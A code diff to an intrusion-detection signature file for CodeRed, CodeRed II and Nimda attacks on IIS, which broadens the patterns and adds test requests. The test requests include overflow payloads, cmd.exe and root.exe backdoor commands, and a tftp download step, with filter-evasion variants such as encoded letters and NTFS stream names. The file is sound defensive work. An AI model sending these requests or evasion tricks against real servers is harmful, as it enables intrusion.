@@ -22,9 +22,16 @@ export const iis2001: Signature[] = [
       'The sending host is infected. To clean it: apply Microsoft bulletin MS01-033 (or retire the Windows NT/2000 server), reboot to clear the in-memory worm, and remove the .ida/.idq script mappings if the Indexing Service is not needed.',
     references: ['CVE-2001-0500', 'MS01-033', 'CERT CA-2001-19', 'Snort SID 1243', 'Snort SID 1244'],
     stage: 'request', stageReason: 'The overflow payload itself is the attack; no legitimate client sends it.',
-    match: { target: 'url', pattern: '^/default\\.ida\\?n{20,}', literals: ['default.ida?n'] },
+    match: { target: 'url', pattern: '^/default\\.ida(?:/[^?]*|)\\?n{20,}', literals: ['default.ida'] },
     examples: {
-      positive: [{ request: `GET /default.ida?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'CERT CA-2001-19' }],
+      positive: [
+        { request: `GET /default.ida?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'CERT CA-2001-19' },
+        // What IIS still resolves to /default.ida: dot segments, encoded letters, an NTFS stream name, path info.
+        { request: `GET /./default.ida?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: dot segment' },
+        { request: `GET /scripts/%2e%2e/default.%69da?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: encoded dot segment and letter' },
+        { request: `GET /default.ida::$DATA?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: NTFS stream name' },
+        { request: `GET /default.ida/x.htm?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: path info' },
+      ],
       negative: [{ request: 'GET /NNNNNNNN/default.htm HTTP/1.1' }, ...IIS_LOOKALIKES],
     },
   },
@@ -36,9 +43,12 @@ export const iis2001: Signature[] = [
       'The sending host is infected and open to anyone. To clean it: apply MS01-033, delete root.exe from \\inetpub\\scripts and \\program files\\common files\\system\\msadc, delete \\explorer.exe from the root of C: and D:, reboot, and check for further intruders; reinstalling is the safe choice.',
     references: ['CVE-2001-0500', 'MS01-033', 'CERT IN-2001-09', 'Snort SID 1243'],
     stage: 'request', stageReason: 'The overflow payload itself is the attack; no legitimate client sends it.',
-    match: { target: 'url', pattern: '^/default\\.ida\\?x{20,}', literals: ['default.ida?x'] },
+    match: { target: 'url', pattern: '^/default\\.ida(?:/[^?]*|)\\?x{20,}', literals: ['default.ida'] },
     examples: {
-      positive: [{ request: `GET /default.ida?${'X'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: HONEYNET }],
+      positive: [
+        { request: `GET /default.ida?${'X'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: HONEYNET },
+        { request: `GET /x/../default.ida.?${'X'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: dot segments and a trailing dot' },
+      ],
       negative: [{ request: 'GET /default.ida HTTP/1.1' }, ...IIS_LOOKALIKES],
     },
   },
@@ -50,7 +60,7 @@ export const iis2001: Signature[] = [
       'The sending host is most likely infected by a CodeRed-style worm or runs an exploit tool. To fix it: apply MS01-033 or retire the server, and remove the .ida/.idq mappings if unused.',
     references: ['CVE-2001-0500', 'MS01-033', 'Snort SID 1243'],
     stage: 'request', stageReason: 'An overflow-sized query or shellcode escapes are never sent by a legitimate client.',
-    match: { target: 'raw', pattern: '^[^?]*\\.id[aq]\\?(?:[^ ]{0,240}%u[0-9a-f]{4}|.{240})', literals: ['.ida?', '.idq?'] },
+    match: { target: 'raw', pattern: '^[^?]*\\.id[aq](?:::\\$data|/[^?]*|)\\?(?:[^ ]{0,240}%u[0-9a-f]{4}|.{240})', literals: ['.ida', '.idq'] },
     examples: {
       positive: [
         { request: `GET /scripts/query.idq?${'A'.repeat(300)} HTTP/1.0` },
@@ -114,11 +124,13 @@ export const iis2001: Signature[] = [
       'The sending host is infected with Nimda or a similar worm. To clean it: disconnect it, remove the worm with an antivirus tool, apply the cumulative IIS patch (MS01-044 or later), delete any root.exe under the web folders, and preferably reinstall.',
     references: ['CERT CA-2001-26', 'CVE-2001-0500', 'Snort SID 1256'],
     stage: 'request', stageReason: 'Running a command through the CodeRed II backdoor is never legitimate.',
-    match: { target: 'url', pattern: '/(?:scripts|msadc)/root\\.exe(?:$|\\?)|/root\\.exe\\?/c[+ ]', literals: ['root.exe'] },
+    match: { target: 'url', pattern: '/(?:scripts|msadc)/root\\.exe(?:$|[?/])|/root\\.exe(?:/[^?]*|)\\?/c[+ ]', literals: ['root.exe'] },
     examples: {
       positive: [
         { request: 'GET /scripts/root.exe?/c+dir HTTP/1.0', source: HONEYNET },
         { request: 'GET /MSADC/root.exe?/c+dir HTTP/1.0', source: HONEYNET },
+        { request: 'GET /scripts/./r%6fot.exe::$DATA?/c+dir HTTP/1.0', source: 'evasion: dot segment, encoded letter, NTFS stream name' },
+        { request: 'GET /msadc/root.exe/x?/c+dir HTTP/1.0', source: 'evasion: path info' },
         { request: 'GET /root.exe?/c+tftp%20-i%20192.0.2.7%20GET%20Admin.dll%20c:\\Admin.dll HTTP/1.0', source: 'CERT CA-2001-26 (tftp step)' },
       ],
       negative: [{ request: 'GET /downloads/chroot.exe.zip HTTP/1.1' }, ...IIS_LOOKALIKES],
@@ -131,11 +143,12 @@ export const iis2001: Signature[] = [
       'The sending host is infected. To clean it: disconnect it, remove the worm with an antivirus tool, apply MS00-078, MS01-026 and the later cumulative IIS patches, and preferably reinstall.',
     references: ['CERT CA-2001-26', 'CERT CA-2001-11', 'MS00-078', 'Snort SID 1002'],
     stage: 'request', stageReason: 'A web request that runs cmd.exe is an attack whatever the answer.',
-    match: { target: 'url', pattern: '/(?:winnt|windows)/system32/cmd\\.exe|/cmd\\.exe\\?/c[+ ]', literals: ['/cmd.exe'] },
+    match: { target: 'url', pattern: '/(?:winnt|windows)/system32/cmd\\.exe|/cmd\\.exe(?:/[^?]*|)\\?/c[+ ]', literals: ['/cmd.exe'] },
     examples: {
       positive: [
         { request: 'GET /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
         { request: 'GET /d/winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
+        { request: 'GET /scripts/cmd.exe./x?/c+dir HTTP/1.0', source: 'evasion: trailing dot and path info' },
         { request: 'GET /scripts/tradecli.dll?template=nonexistfile?template=..\\..\\..\\..\\..\\winnt\\system32\\cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
       ],
       negative: [{ request: 'GET /docs/windows/cmd-exe-reference.html HTTP/1.1' }, ...IIS_LOOKALIKES],
